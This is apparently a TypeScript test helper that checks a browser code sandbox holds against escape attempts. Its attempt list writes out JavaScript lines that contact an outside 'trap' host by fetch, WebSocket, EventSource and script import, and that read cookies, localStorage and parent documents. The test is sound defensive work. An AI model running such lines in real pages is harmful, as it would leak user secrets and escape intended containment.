import type { Page } from "playwright-core";
import { expect } from "vitest";
import { frameDocument } from "../../packages/hub/src/code-sandbox/frame-script.ts";
import type { Hub } from "./hub.ts";
import type { Trap } from "./start-trap.ts";

/**
 * Holds what sandboxes stand in against plain JavaScript, on a page whose site keeps secrets.
 * @param look at the page afterwards
 */
export async function expectNoEscape(
  hub: Hub,
  trap: Trap,
  look?: (page: Page) => Promise<void>,
): Promise<void> {
  // What is asked for and stopped by the policy counts as asked where pages are visited, so this page is opened by hand.
  const context = await hub.browser().newContext({ serviceWorkers: "block" });
  try {
    const page = await context.newPage();
    await page.goto(hub.address());
    await context.addCookies([{ name: "secret", value: "1", url: hub.address() }]);
    await page.evaluate(() => localStorage.setItem("secret", "1"));
    const found = await tryBrowserEscapes(page, trap.at(), hub.address());
    for (const [way, result] of Object.entries(found)) expect(result, way).toBe("held");
    await look?.(page);
  } finally {
    await context.close();
  }
  expect(trap.calls()).toBe(0);
}

/**
 * What the frame and the worker of a sandbox hold if the languages themselves let everything through: plain JavaScript in the place of an
 * engine tries to get out of them by each of its ways.
 * @param trap `HOST:PORT` of somebody who waits to be called
 * @param site where the page is served
 * @returns by way: `held`, or `got out`
 */
async function tryBrowserEscapes(
  page: Page,
  trap: string,
  site: string,
): Promise<Readonly<Record<string, string>>> {
  const found: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(attemptsAt(trap, site))) {
    const script = `(async () => { try { ${attempt}; postMessage("got out"); } catch (error) { postMessage("held"); } })()`;
    found[name] = await page.evaluate(
      ({ document: text, script: source }) =>
        new Promise<string>((resolve) => {
          const frame = document.createElement("iframe");
          frame.setAttribute("sandbox", "allow-scripts");
          frame.srcdoc = text;
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = ({ data }) => {
            frame.remove();
            resolve(String(data));
          };
          frame.addEventListener("load", () => frame.contentWindow?.postMessage(source, "*", [port2]));
          document.body.append(frame);
        }),
      { document: frameDocument, script },
    );
  }
  return found;
}

function attemptsAt(trap: string, site: string): Readonly<Record<string, string>> {
  return {
    fetch: `await fetch("http://${trap}/")`,
    "fetch of the site": `await fetch("${site}data/index.json")`,
    "fetch without an answer": `await fetch("http://${trap}/", { mode: "no-cors" })`,
    XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", "http://${trap}/", false); x.send()`,
    WebSocket: `await new Promise((resolve, reject) => { const s = new WebSocket("ws://${trap}/"); s.onopen = resolve; s.onerror = reject; })`,
    EventSource: `await new Promise((resolve, reject) => { const s = new EventSource("http://${trap}/"); s.onopen = resolve; s.onerror = reject; })`,
    importScripts: `importScripts("http://${trap}/a.js")`,
    "import()": `await import("http://${trap}/a.js")`,
    "import() of a blob": `await import(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" })))`,
    "import() of data": `await import("data:text/javascript,1")`,
    indexedDB: `await new Promise((resolve, reject) => { const r = indexedDB.open("a"); r.onsuccess = resolve; r.onerror = reject; })`,
    localStorage: "localStorage.getItem('secret').length",
    caches: "await caches.keys()",
    "cookie store": "await cookieStore.getAll()",
    cookie: "document.cookie.length",
    parent: "parent.document.title.length",
    top: "top.location.href.length",
    "files of its own": "await navigator.storage.getDirectory()",
    eval: "eval('1')",
    Function: "Function('return 1')()",
    "a worker from elsewhere": `await new Promise((resolve, reject) => { const w = new Worker("http://${trap}/a.js"); w.onerror = reject; setTimeout(resolve, 2000); })`,
  };
}
